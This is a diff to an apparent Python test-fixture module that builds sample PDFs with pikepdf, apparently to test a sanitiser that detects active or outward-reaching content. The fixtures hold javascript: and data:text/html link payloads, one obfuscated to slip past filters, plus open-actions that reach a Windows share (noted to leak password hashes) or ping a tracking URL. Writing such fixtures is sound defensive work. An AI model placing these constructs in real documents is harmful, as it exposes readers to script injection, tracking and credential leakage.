@@ -62,23 +62,55 @@ def report_in_object_streams() -> bytes:
     return changed(lambda _: None, object_stream_mode=pikepdf.ObjectStreamMode.generate)
 
 
-@file()
-def report_with_a_link() -> bytes:
+def with_link(act: Dictionary) -> bytes:
     def link(it: pikepdf.Pdf) -> None:
-        it.pages[0].Annots = Array(
-            [
-                it.make_indirect(
-                    Dictionary(
-                        Type=Name.Annot,
-                        Subtype=Name.Link,
-                        Rect=[0, 0, 99, 99],
-                        A=action(S=Name.URI, URI=pikepdf.String("https://www.nhs.uk")),
-                    )
-                )
-            ]
-        )
+        annotation = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 99, 99], A=it.make_indirect(act))
+        it.pages[0].Annots = Array([it.make_indirect(annotation)])
 
     return changed(link)
+
+
+@file()
+def report_with_a_link() -> bytes:
+    return with_link(action(S=Name.URI, URI=pikepdf.String("https://www.nhs.uk")))
+
+
+def opening(act: object, content: bytes = b"") -> bytes:
+    """A report that does something when it is opened."""
+
+    def add(it: pikepdf.Pdf) -> None:
+        it.Root.OpenAction = act(it) if callable(act) else act
+
+    return changed(add, content)
+
+
+@file()
+def report_that_opens_at_its_second_page() -> bytes:
+    return opening(lambda it: Array([it.pages[1].obj, Name.Fit]))
+
+
+@file()
+def report_that_opens_at_its_second_page_and_offers_to_print() -> bytes:
+    printing = action(S=Name.Named, N=Name.Print)
+    return opening(lambda it: action(S=Name.GoTo, D=Array([it.pages[1].obj, Name.Fit]), Next=printing))
+
+
+@file()
+def report_with_a_link_into_another_report() -> bytes:
+    """It opens nothing by itself: who reads it has to follow the link."""
+    return with_link(action(S=Name.GoToR, F=pikepdf.String("appendix.pdf"), D=Array([0, Name.Fit])))
+
+
+@file()
+def report_whose_parts_refer_to_each_other() -> bytes:
+    """A tagged PDF, where /Ref is what belongs together (PDF 2.0, 14.7.2)."""
+
+    def tag(it: pikepdf.Pdf) -> None:
+        note = it.make_indirect(Dictionary(Type=Name.StructElem, S=Name.Note))
+        link = it.make_indirect(Dictionary(Type=Name.StructElem, S=Name.Reference, Ref=Array([note])))
+        it.Root.StructTreeRoot = it.make_indirect(Dictionary(Type=Name.StructTreeRoot, K=Array([link, note])))
+
+    return changed(tag)
 
 
 @file()
@@ -313,6 +345,93 @@ def form_that_sends_itself() -> bytes:
         it.Root.OpenAction = action(S=Name.SubmitForm, F=pikepdf.String("https://example.org"))
 
     return changed(act)
+
+
+def to(address: str) -> Dictionary:
+    return action(S=Name.URI, URI=pikepdf.String(address))
+
+
+@file("active")
+def script_behind_a_link() -> bytes:
+    return with_link(to("javascript:alert(1)"))
+
+
+@file("active")
+def script_behind_a_link_written_with_blanks() -> bytes:
+    """A browser that is given it leaves the line breaks out."""
+    return with_link(to(" JaVa\nScript:alert(1)"))
+
+
+@file("active")
+def script_that_every_link_begins_with() -> bytes:
+    def add(it: pikepdf.Pdf) -> None:
+        it.Root.URI = Dictionary(Base=pikepdf.String("javascript:"))
+
+    return changed(add, with_link(to("alert(1)")))
+
+
+@file("active")
+def page_of_a_website_behind_a_link() -> bytes:
+    return with_link(to("data:text/html,<script>alert(1)</script>"))
+
+
+SHARE = "\\\\files.example.org\\share\\letter.pdf"
+
+
+@file("reaching")
+def file_of_a_foreign_server_when_opened() -> bytes:
+    """Windows would send that server the person's password in scrambled form."""
+    return opening(action(S=Name.GoToR, F=pikepdf.String(SHARE), D=Array([0, Name.Fit])))
+
+
+@file("reaching")
+def website_when_opened() -> bytes:
+    return opening(to("https://example.org/who-read-it"))
+
+
+@file("reaching")
+def website_after_the_second_page_when_opened() -> bytes:
+    def show(it: pikepdf.Pdf) -> Dictionary:
+        return action(
+            S=Name.GoTo, D=Array([it.pages[1].obj, Name.Fit]), Next=Array([it.make_indirect(to("https://a"))])
+        )
+
+    return opening(show)
+
+
+@file("reaching")
+def action_that_leads_to_itself_when_opened() -> bytes:
+    def bend(it: pikepdf.Pdf) -> Dictionary:
+        first = it.make_indirect(action(S=Name.Named, N=Name.NextPage))
+        first.Next = first
+        return first
+
+    return opening(bend)
+
+
+def with_form(**parts: object) -> bytes:
+    """A report whose first page shows a picture made of drawing commands."""
+
+    def add(it: pikepdf.Pdf) -> None:
+        form = it.make_stream(b"0 0 9 9 re f", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 99, 99], **parts)
+        it.pages[0].Resources.XObject = Dictionary(I=form)
+
+    return changed(add)
+
+
+@file("reaching")
+def page_of_another_file_on_a_page() -> bytes:
+    return with_form(Ref=Dictionary(F=pikepdf.String(SHARE), Page=0))
+
+
+@file("reaching")
+def drawing_that_lies_in_another_file() -> bytes:
+    return with_form(F=pikepdf.String(SHARE))
+
+
+@file("reaching")
+def drawing_that_lies_on_a_website() -> bytes:
+    return with_form(F=Dictionary(FS=Name.URL, F=pikepdf.String("https://example.org/drawing")))
 
 
 @file("active")
